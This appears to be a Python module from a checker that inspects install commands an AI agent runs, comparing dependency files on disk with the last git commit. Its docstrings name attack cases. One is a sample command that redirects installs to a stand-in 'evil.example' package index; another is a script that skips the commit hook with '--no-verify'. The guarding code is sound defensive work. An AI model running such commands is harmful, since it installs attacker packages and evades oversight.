"""What an install command reads from disk: the requirements files (``-r FILE``, ``uv pip sync FILE``) and the
projects (``pip install -e .``, ``uv sync``, ``poetry install``) an agent may just have written.

Declarations come from the last commit (HEAD); what exists only on disk, or is only staged, is new. The
command installs what is on disk, so that is read (bounded: a file larger than :data:`MAX_FILE_BYTES`, or more
than :data:`MAX_FILES` files, is not read), and every name it holds that the same file or project does not hold
in HEAD is handed back to get the evidence of a new dependency. A file or a
project that cannot be read (missing: the command may create it first; outside the repository; a URL;
standard input or a process substitution; too large; a directory change known only at run time) is a
finding that asks (``HC042``): it is never passed.
"""

from __future__ import annotations

import os
import posixpath
import re
import stat
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import TYPE_CHECKING

from hallucheck.lazy import LazyPattern, field, record
from hallucheck.snapshot import EntryKind, MemorySnapshot, Snapshot

if TYPE_CHECKING:
    from hallucheck.findings import Finding
    from hallucheck.manifests import Declared
    from hallucheck.sources.install_commands import DiskInput, InstallArgument, InstallCommand

MAX_FILE_BYTES = 1_000_000
"""A file larger than this is not read (a requirements file is a few kB; a large lock file a few hundred)."""
MAX_FILES = 64
"""At most this many files are read from disk for one command."""
MAX_ENTRIES = 5_000
"""A directory listing stops after this many entries (a project directory holds a few dozen)."""
PROJECT_MANIFESTS = ("pyproject.toml", "setup.py", "setup.cfg", "Pipfile", "pixi.toml")
_STDIN = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
_CHANGES_DIRECTORY = LazyPattern(r"(?<![\w.-])(?:cd|pushd|popd)(?![\w.-])")
_EXTRAS = LazyPattern(r"\[[^\]]*\]$")


class Unreadable(Exception):
    """A file the command installs from cannot be read (the reason is the message)."""


@record
class DiskNames:
    """What the command's inputs name that git does not hold, and why some inputs could not be read."""

    names: list[tuple[InstallCommand, InstallArgument, str]] = field(default_factory=list)
    """(command, package, the file on disk that names it)."""
    unread: list[Finding] = field(default_factory=list)
    committed: list[tuple[InstallCommand, InstallArgument, str]] = field(default_factory=list)
    """(command, package, the file that names it) for each package the command installs from a file or project
    as git holds it too (attack G7: trusted as declared, but an error by its name alone still counts)."""


class WorkTree:
    """The files on disk under ``root`` as a :class:`~hallucheck.snapshot.Snapshot` (read-only, bounded: only
    regular files inside ``root``, none larger than :data:`MAX_FILE_BYTES`; FIFOs and devices are never opened)."""

    def __init__(self, root: Path) -> None:
        self.root = root.resolve()
        self.files_read: dict[str, bytes] = {}

    @property
    def label(self) -> str:
        return "disk"

    def read(self, path: str) -> bytes | None:
        if path in self.files_read:
            return self.files_read[path]
        target = self._inside(path)
        if target is None:
            return None
        try:
            status = os.stat(target)
        except OSError:
            return None
        if not stat.S_ISREG(status.st_mode):
            return None
        if status.st_size > MAX_FILE_BYTES:
            raise Unreadable(f"`{path}` is larger than {MAX_FILE_BYTES // 1000} kB")
        if len(self.files_read) >= MAX_FILES:
            raise Unreadable(f"the command reads more than {MAX_FILES} files")
        try:
            descriptor = os.open(target, os.O_RDONLY | getattr(os, "O_NONBLOCK", 0))
            with os.fdopen(descriptor, "rb") as stream:
                data = stream.read(MAX_FILE_BYTES + 1)
        except OSError as error:
            raise Unreadable(f"`{path}` cannot be read ({error.strerror or error})") from None
        if len(data) > MAX_FILE_BYTES:
            raise Unreadable(f"`{path}` is larger than {MAX_FILE_BYTES // 1000} kB")
        self.files_read[path] = data
        return data

    def list_dir(self, directory: str) -> Mapping[str, EntryKind]:
        target = self._inside(directory) if directory else self.root
        entries: dict[str, EntryKind] = {}
        if target is None:
            return entries
        try:
            with os.scandir(target) as listing:
                for count, entry in enumerate(listing):
                    if count >= MAX_ENTRIES:
                        break
                    if entry.is_dir(follow_symlinks=False):
                        entries[entry.name] = EntryKind.DIRECTORY
                    elif entry.is_file():
                        entries[entry.name] = EntryKind.FILE
        except OSError:
            return {}
        return entries

    def _inside(self, path: str) -> Path | None:
        """The real path of ``path`` when it stays inside the root (symbolic links resolved)."""
        target = (self.root / path).resolve()
        return target if target == self.root or self.root in target.parents else None


_VARIABLE = LazyPattern(rb"\$\{(?P<name>[A-Z0-9_]+)\}")
"""What pip expands in a requirements file (its own pattern: upper case, digits, ``_``)."""
_COMMENT = LazyPattern(rb"(?:^|\s)#")


class Expanded(WorkTree):
    """The requirements files on disk as pip reads them: each ``${NAME}`` (outside comments) replaced by the value
    the command's text sets for it (attack E25: ``PRIVATE_INDEX=https://evil.example/simple pip install -r
    requirements.txt`` over a committed ``--extra-index-url ${PRIVATE_INDEX}``). A name the command does not
    set, or sets to a value known only at run time, comes from an environment hallucheck cannot see: the file
    is :class:`Unreadable` (asked about)."""

    def __init__(self, tree: WorkTree, environment: Mapping[str, str]) -> None:
        self.root = tree.root
        self.files_read = tree.files_read
        self._tree = tree
        self._environment = environment

    def read(self, path: str) -> bytes | None:
        data = self._tree.read(path)
        if data is None or b"${" not in data:
            return data
        return b"\n".join(self._expanded(path, line) for line in data.split(b"\n"))

    def _expanded(self, path: str, line: bytes) -> bytes:
        if b"${" not in line:
            return line
        comment = _COMMENT.search(line)
        code, rest = (line[:comment.start()], line[comment.start():]) if comment else (line, b"")

        def value(match: re.Match[bytes]) -> bytes:
            from hallucheck.sources.install_commands import UNKNOWN

            name = match.group("name").decode()
            found = self._environment.get(name)
            if found is None or UNKNOWN in found:
                how = "does not set it" if found is None else "sets it to a value known only when it runs"
                raise Unreadable(f"`{path}` names `${{{name}}}`, which pip takes from the environment, and the "
                                 f"command {how}")
            return found.encode("utf-8", "surrogateescape")

        return _VARIABLE.sub(value, code) + rest


def disk_names(commands: Sequence[InstallCommand], text: str | None, cwd: Path, root: Path | None,
               committed: Snapshot | None) -> DiskNames:
    """The packages the inputs of ``commands`` (read from disk, from ``cwd`` or the directories ``text``
    changes to) name and git does not hold; ``root`` is the repository's top level (None: no repository, then
    the project is ``cwd`` and nothing in it is committed)."""
    result = DiskNames()
    top = (root or cwd).resolve()
    tree = WorkTree(top)
    committed = committed if committed is not None else MemorySnapshot({}, "git")
    changes, unknown_directory = _working_directories(text, cwd)
    for command in commands:
        directories = _candidates(changes, command.offset)
        for item in command.inputs:
            reading = tree if item.project or item.runs else Expanded(tree, dict(command.environment))
            try:
                for relative in _located(item, directories, unknown_directory, top):
                    if item.runs:
                        result.unread += _run_skips(command, item, relative, tree)
                    held: list[tuple[InstallArgument, str]] = []
                    for argument, origin in _new_names(item, relative, reading, committed, held=held):
                        result.names.append((command, argument, origin))
                    result.committed += [(command, argument, origin) for argument, origin in held]
            except Unreadable as reason:
                result.unread.append(_unread(command, item, str(reason)))
    return result


def _candidates(changes: list[tuple[int, Path]], offset: int) -> list[Path]:
    """The directories a command at ``offset`` may run in: first the one the last ``cd`` before it changed to
    (it must hold what the command reads), then the others (a ``cd`` in a subshell does not last: read there
    too when they hold it). A command whose place is not known must find it in every one."""
    if offset < 0:
        return [path for _, path in changes]
    before = [path for start, path in changes if start < offset]
    return [before[-1], *(path for _, path in changes if path != before[-1])]


def _located(item: DiskInput, directories: list[Path], unknown_directory: bool, top: Path) -> Iterator[str]:
    """The repository-relative paths ``item`` names from the directories the command may run in: it must be in
    the first one (``cd x && pip install -r r.txt`` reads ``x/r.txt``); the others are read when they hold it."""
    from hallucheck.sources.install_commands import UNKNOWN

    written = str(item.path)
    if item.text is not None:
        yield ""  # fed on standard input: read from item.text
        return
    if item.runs:
        yield from _run_file(written, directories, top)
        return
    if UNKNOWN in written or written in _STDIN or written.startswith(("/dev/", "/proc/")):
        raise Unreadable("what it installs from is known only when the command runs (standard input, a "
                         "process substitution or a computed path)")
    if "://" in written or re.match(r"(?i)(?:git|hg|svn|bzr)\+", written):
        raise Unreadable("it installs from a URL, whose content hallucheck does not fetch")
    path = written
    if item.project:
        path = _EXTRAS.sub("", path.removeprefix("file:").removeprefix("//") if path.startswith("file:") else path)
    expanded = os.path.expanduser(path)
    if not os.path.isabs(expanded) and unknown_directory:
        raise Unreadable("the command changes to a directory known only when it runs")
    found = False
    for index, directory in enumerate(dict.fromkeys(directories if not os.path.isabs(expanded) else directories[:1])):
        if index == 1 and not found:
            break  # not where the command runs: it may be created there first
        target = Path(os.path.normpath(directory / expanded))
        resolved = target.resolve()
        if resolved != top and top not in resolved.parents:
            if index:
                continue  # another directory the command may run in: where it runs, the path is inside
            raise Unreadable(f"`{written}` is outside the repository, where git holds nothing")
        relative = resolved.relative_to(top).as_posix()
        relative = "" if relative == "." else relative
        if item.project and not any((resolved / name).is_file() for name in PROJECT_MANIFESTS):
            continue  # no project (yet) in that directory
        if not item.project and not resolved.is_file():
            continue
        found = True
        yield relative
    if not found and item.project:
        raise Unreadable(f"`{written}` holds no project manifest yet (the command may write one first)")
    if not found and not item.written:  # a file the command writes first is read from the command's text
        raise Unreadable(f"the file `{written}` does not exist yet (the command may create it first)")


def _run_file(written: str, directories: list[Path], top: Path) -> Iterator[str]:
    """The repository-relative paths of a file the command runs, in each directory it may run in that holds it
    (``cd sub && python3 x.py`` runs ``sub/x.py``; where the ``cd`` is not known, both ``x.py`` and ``sub/x.py``
    are read: attack F1). A missing file, or one outside the repository, runs nothing this check can read (the
    shell's own startup files, a system script)."""
    from hallucheck.sources.install_commands import UNKNOWN

    if UNKNOWN in written:
        return
    seen: set[Path] = set()
    for directory in directories:
        target = Path(os.path.normpath(directory / os.path.expanduser(written))).resolve()
        if target not in seen and (target == top or top in target.parents) and target.is_file():
            seen.add(target)
            yield target.relative_to(top).as_posix()


def _run_names(item: DiskInput, relative: str, tree: WorkTree,
               committed: Snapshot) -> Iterator[tuple[InstallArgument, str]]:
    """What a file the command runs installs as it is on disk and not as git holds it: its install commands
    (read as its kind: a shell script, Python code, a Makefile, tox ``commands``), the declarations of a task
    runner's file (tox ``deps``, nox ``session.install``, pre-commit ``additional_dependencies``) and a Python
    script's inline metadata (``uv run s.py``)."""
    from hallucheck.manifests import manifest_kind
    from hallucheck.sources import install_files

    disk: bytes | None
    git: bytes | None
    if item.text is not None:  # the command wrote the script it runs: all of it is new (attack E32)
        relative = str(item.path)
        disk, git = item.text.encode(), None
    else:
        disk, git = tree.read(relative), committed.read(relative)
    if disk is None or disk == git:
        return
    kinds = {"shell": install_files.SHELL, "python": install_files.PYTHON, "make": install_files.MAKEFILE}
    kind = kinds.get(item.runs) or install_files.file_kind(relative)
    seen: set[tuple[str, str, bool]] = set()
    for text in ([] if git is None else [_decoded(git)]):
        seen |= {(found.argument.name, found.argument.requirement, found.argument.determined)
                 for found in install_files.installed_names(relative, text, None, kind)}
        seen |= {(name, requirement, True) for name, requirement in _script_names(text, relative)}
    text = _decoded(disk)
    for found in install_files.installed_names(relative, text, None, kind):
        argument = found.argument
        if (argument.name, argument.requirement, argument.determined) not in seen:
            yield argument, relative
    from hallucheck.sources.install_commands import PYPI, InstallArgument

    for name, requirement in _script_names(text, relative):
        if (name, requirement, True) not in seen:
            yield InstallArgument(name, requirement, PYPI), relative
    if manifest_kind(relative) not in (None, "requirements"):
        from hallucheck.sources.install_commands import DiskInput

        yield from _new_names(DiskInput(item.path), relative, tree, committed)


def _run_skips(command: InstallCommand, item: DiskInput, relative: str, tree: WorkTree) -> list[Finding]:
    """A file the command runs (as it is on disk, committed or not) that gets past hallucheck's commit hook:
    ``./release.sh`` holding ``git commit --no-verify`` (attack F7 through a file: the command's text shows
    nothing). A shell script is read by the rules of :mod:`.hook_skips`; other files (Python, a Makefile, tox)
    by their text naming git and a way past the hook."""
    from hallucheck.commands.hook_skips import file_skips_commit_checks
    from hallucheck.findings import finding

    data = item.text.encode() if item.text is not None else tree.read(relative)
    if data is None:
        return []
    how = file_skips_commit_checks(_decoded(data), item.runs == "shell" or relative.endswith((".sh", ".bash")))
    if not how:
        return []
    name = str(item.path) if item.text is not None else relative
    return [finding(
        "HC042", "command", 1, 1,
        f"`{command.text}` runs `{name}`, which {how}, so what it commits or pushes is not checked by hallucheck",
        "Commit and push with the hooks, or ask the user to confirm this command.",
    )]  # fmt: skip


def _script_names(text: str, path: str) -> list[tuple[str, str]]:
    """(name, requirement) of each requirement a Python script's inline metadata (PEP 723) declares."""
    from hallucheck.manifests import pep723

    metadata = pep723.read_script(text, path)
    return [] if metadata is None else [(item.name, item.requirement) for item in metadata.dependencies]


def _decoded(data: bytes) -> str:
    return data.decode("utf-8-sig", "replace").replace("\r\n", "\n")


def _new_names(item: DiskInput, relative: str, tree: WorkTree, committed: Snapshot,
               visited: set[str] | None = None,
               held: list[tuple[InstallArgument, str]] | None = None) -> Iterator[tuple[InstallArgument, str]]:
    """Each package the input names on disk that the same file (or project) does not name in git; projects a
    requirements file installs from (``-e ./lib``) are read the same way. ``held`` gets the packages it names as
    git holds them too (declared and locked names; a lock's own entries are what a resolver chose, not written)."""
    if item.runs:
        yield from _run_names(item, relative, tree, committed)
        return
    if item.text is not None:
        declared = _requirements(MemorySnapshot({"(standard input)": item.text}, "standard input"),
                                 "(standard input)")
        yield from _arguments(declared, {}, set(), "(standard input)")
        return
    visited = set() if visited is None else visited
    project = item.project or posixpath.basename(relative) in PROJECT_MANIFESTS
    directory = relative if item.project else posixpath.dirname(relative)
    key = f"{project}:{directory if project else relative}"
    if key in visited:
        return
    visited.add(key)
    if project and not any(tree.read(posixpath.join(directory, name) if directory else name) is not None
                           for name in PROJECT_MANIFESTS):
        raise Unreadable(f"`{directory or '.'}` holds no project manifest yet (the command may write one first)")
    disk = _read(tree, project, directory, relative, item.locked, item.conda)
    same = _same_as_git(disk, tree, committed, item.locked)
    git = disk if same else _read(committed, project, directory, relative, item.locked, item.conda)
    if held is not None:
        held += _held_names(disk, git, relative or ".")
    if not same:
        changed = {path for path in disk.manifests if tree.read(path) != committed.read(path)}
        problems = [problem for problem in disk.problems if problem.path in changed]
        if problems:
            raise Unreadable(f"`{problems[0].path}` on disk cannot be read as the installer reads it: "
                             f"{problems[0].message}")
        yield from _arguments(disk, _sources(git, item.locked), _own_names(disk), relative or ".", item.locked)
    if not project:
        from hallucheck.sources.install_commands import DiskInput

        for local in disk.first_party:  # `-e ./lib` in the requirements file
            yield from _new_names(DiskInput(local.directory, project=True), local.directory, tree, committed,
                                  visited, held)


def _held_names(disk: Declared, git: Declared, origin: str) -> list[tuple[InstallArgument, str]]:
    """The packages ``disk`` declares that ``git`` declares too, each once."""
    held = {*git.dependencies, *git.build_requires}
    return [(argument, where) for argument, where in _arguments(disk, {}, _own_names(disk), origin)
            if argument.name in held]


def _read(snapshot: Snapshot, project: bool, directory: str, relative: str, locked: bool,
          conda: bool = False) -> Declared:
    """What the project in ``directory``, or the file ``relative``, declares in ``snapshot`` (``conda``: a conda
    file, an environment YAML whatever its name)."""
    from hallucheck.manifests import manifest_kind

    if project:
        return _project(snapshot, directory, locked)
    family = "conda" if conda and relative.lower().endswith((".yml", ".yaml")) else manifest_kind(relative)
    if family not in (None, "requirements"):
        return _manifest(snapshot, relative, family or "")
    return _requirements(snapshot, relative)


def _requirements(snapshot: Snapshot, path: str) -> Declared:
    from hallucheck.manifests import Declared
    from hallucheck.manifests.reading import ManifestReader
    from hallucheck.manifests.requirements import read_requirements_file

    declared = Declared()
    read_requirements_file(ManifestReader(snapshot, declared), path)
    return declared


def _manifest(snapshot: Snapshot, path: str, family: str) -> Declared:
    """A manifest named as a requirements file (``uv pip install -r pyproject.toml``, ``-r environment.yml``)."""
    from hallucheck.manifests import Declared
    from hallucheck.manifests.reading import ManifestReader
    from hallucheck.manifests.scope import _reader_of

    declared = Declared()
    _reader_of(family)(ManifestReader(snapshot, declared), path)
    return declared


def _project(snapshot: Snapshot, directory: str, locked: bool) -> Declared:
    """What the project's own manifests declare (its lock files are read on the first use of ``locked``)."""
    from hallucheck.manifests.scope import ProjectScopes

    return ProjectScopes(snapshot).own(directory)


def _same_as_git(declared: Declared, tree: WorkTree, committed: Snapshot, locked: bool) -> bool:
    """Whether every file the disk reading read is, byte for byte, what git holds (then nothing is new)."""
    paths = [*declared.manifests, *(declared.lock_files if locked else ())]
    return all(tree.read(path) == committed.read(path) for path in dict.fromkeys(paths))


def _sources(declared: Declared, locked: bool) -> dict[str, set[str]]:
    """Each name ``declared`` holds (locked ones too, with ``locked``) -> the sources it takes it from
    (:func:`hallucheck.manifests.sources.source`)."""
    from hallucheck.manifests.sources import INDEX, declared_sources

    known = declared_sources(declared)
    known.pop("", None)
    if locked:
        for name in declared.locked:
            known.setdefault(name, set()).add(INDEX)
    return known


def _own_names(declared: Declared) -> set[str]:
    from hallucheck.resolve.mapping import normalize_distribution

    return {normalize_distribution(item.name) for item in declared.first_party if item.name}


def _arguments(declared: Declared, known: dict[str, set[str]], own: set[str], origin: str,
               locked: bool = False) -> Iterator[tuple[InstallArgument, str]]:
    """Each name ``declared`` holds that git does not hold from the same source (``known``): a name git holds
    from the index that the disk moves to a URL or another index (``requests @ https://...`` in a constraints
    file, ``--index-url`` added to a requirements file: attacks E29, E3) is new from there; ``own`` names are
    the project's own."""
    from hallucheck.manifests.sources import placed, source
    from hallucheck.sources.install_commands import PYPI, InstallArgument

    lock = declared.locked if locked else {}
    seen: set[str] = set()
    for table in (declared.dependencies, declared.build_requires, lock):
        for name, places in table.items():
            if name in own or name in seen:
                continue
            seen.add(name)
            sources = known.get(name, set())
            for place in places:
                requirement = place.requirement if table is lock else placed(place, declared).requirement
                if name not in known or source(requirement) not in sources:
                    yield InstallArgument(name, requirement, PYPI), place.path or origin
                    break


def _working_directories(text: str | None, cwd: Path) -> tuple[list[tuple[int, Path]], bool]:
    """``cwd`` and every literal ``cd``/``pushd`` target (each relative to the one before, also inside ``bash -c
    "..."``), each with the offset in ``text`` where the change is written; True when a change of directory is
    known only at run time."""
    directories = [(-1, cwd)]
    if text is None or not _CHANGES_DIRECTORY.search(text):
        return directories, False
    unknown = _directory_changes(text, 0, cwd, directories, 0)
    return directories, unknown


def _directory_changes(text: str, base: int, current: Path, directories: list[tuple[int, Path]],
                       depth: int) -> bool:
    """Add the directories ``text`` (at offset ``base``) changes to; True when one is known only at run time
    (or not read)."""
    from hallucheck.sources.install_commands import UNKNOWN
    from hallucheck.sources.shell import read

    if depth > 4:
        return True
    commands, _ = read(text, base)
    seen = False
    for command in commands:
        words = [str(word) for word in command.words]
        program = posixpath.basename(words[0]) if words else ""
        if program in _SHELLS:
            script = _shell_script(words[1:])
            if script is not None and _CHANGES_DIRECTORY.search(script):
                seen = True
                start = int(getattr(script, "offset", base)) + 1
                if UNKNOWN in script or _directory_changes(script, start, current, directories, depth + 1):
                    return True
            continue
        if program not in ("cd", "pushd", "popd"):
            continue
        seen = True
        targets = [word for word in words[1:] if not word.startswith("-") or word == "-"]
        if program == "popd" or not targets or UNKNOWN in targets[0] or targets[0] == "-":
            return True
        current = Path(os.path.normpath(current / os.path.expanduser(targets[0])))
        directories.append((command.offset, current))
    return not seen  # a `cd` the reading did not find as a command (inside `eval`, a function...): unknown


_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "busybox"})


def _shell_script(words: list[str]) -> str | None:
    """The script of ``sh [options] -c SCRIPT``."""
    for index, word in enumerate(words):
        if not word.startswith(("-", "+")):
            return None
        if not word.startswith("--") and "c" in word[1:]:
            return words[index + 1] if index + 1 < len(words) else None
    return None


def _unread(command: InstallCommand, item: DiskInput, reason: str) -> Finding:
    from hallucheck.findings import finding
    from hallucheck.sources.install_commands import UNKNOWN

    path = str(getattr(item.path, "source", "") or item.path) if UNKNOWN in item.path else item.path
    return finding(
        "HC042", "command", 1, 1,
        f"`{command.text}` installs what `{path}` names, and hallucheck cannot read it: {reason}",
        "Run the install once the file is written and staged (`git add` it: what git holds is checked), or "
        "confirm it yourself.",
    )  # fmt: skip


_UV_CONFIGURATION = ("uv.toml", "pyproject.toml")
_SOURCE_KEYS = frozenset({"url", "index-url", "extra-index-url", "find-links", "default-index", "git"})


def disk_sources(commands: Sequence[InstallCommand], text: str | None, cwd: Path, root: Path | None,
                 committed: Snapshot | None) -> list[Finding]:
    """HC043 for each package source that uv's configuration on disk sets and HEAD does not (attack E3): a
    ``uv.toml``, or ``[tool.uv]`` of a ``pyproject.toml``, in a directory a uv command runs in or above it (uv
    reads the nearest), written or edited by the agent and not committed (``[[index]] url = ... default =
    true``: every declared package then comes from there)."""
    if root is None or not any(command.tool.startswith("uv") for command in commands):
        return []
    top = root.resolve()
    tree = WorkTree(top)
    committed = committed if committed is not None else MemorySnapshot({}, "git")
    changes, _ = _working_directories(text, cwd)
    findings: list[Finding] = []
    seen: set[str] = set()
    for _, directory in changes:
        current = Path(os.path.normpath(directory)).resolve()
        while current == top or top in current.parents:
            for name in _UV_CONFIGURATION:
                relative = (current / name).relative_to(top).as_posix()
                if relative in seen:
                    continue
                seen.add(relative)
                try:
                    disk = tree.read(relative)
                except Unreadable as reason:
                    findings.append(_unread_configuration(relative, str(reason)))
                    continue
                git = committed.read(relative)
                if disk is None or disk == git:
                    continue
                known = _uv_sources(relative, git)
                findings += [_disk_source(relative, where, value) for where, value in _uv_sources(relative, disk)
                             if (where, value) not in known]
            if current == top:
                break
            current = current.parent
    return findings


def _uv_sources(path: str, data: bytes | None) -> set[tuple[str, str]]:
    """(key path, value) of every source uv's settings in ``data`` name: index URLs, find-links, ``[tool.uv.
    sources]`` URLs and git repositories, and direct references in override or constraint lists."""
    if data is None:
        return set()
    from hallucheck.manifests.tomlfile import load_toml

    try:
        document, _ = load_toml(_decoded(data), path)
    except (RecursionError, ValueError):
        return set()
    if document is None:
        return set()
    settings: object = document
    if posixpath.basename(path) == "pyproject.toml":
        tool = document.get("tool")
        settings = tool.get("uv") if isinstance(tool, dict) else None
    found: set[tuple[str, str]] = set()
    stack: list[tuple[str, object]] = [("", settings)]
    while stack and len(found) < 1000:
        where, value = stack.pop()
        if isinstance(value, dict):
            stack += [(f"{where}.{key}".lstrip("."), item) for key, item in value.items()]
        elif isinstance(value, list):
            stack += [(where, item) for item in value]
        elif isinstance(value, str) and (where.rpartition(".")[2] in _SOURCE_KEYS or "://" in value
                                         or value.startswith("git+")):
            found.add((where, value))
    return found


def _disk_source(path: str, where: str, value: str) -> Finding:
    from hallucheck.findings import finding
    from hallucheck.sources.index_settings import redacted

    shown = redacted(value)
    return finding(
        "HC043", "command", 1, 1,
        f"`{path}` on disk sets `{where} = {shown}` for uv, which the last commit does not: a package source only "
        "the disk has, for every package the command installs",
        f"Make sure `{shown}` is the source the project means (the dependency-confusion move keeps the names and "
        "changes the index), then commit the setting, or confirm this command yourself.",
    )  # fmt: skip


def _unread_configuration(path: str, reason: str) -> Finding:
    from hallucheck.findings import finding

    return finding("HC042", "command", 1, 1, f"uv's configuration `{path}` cannot be read: {reason}",
                   "Confirm the command yourself.")
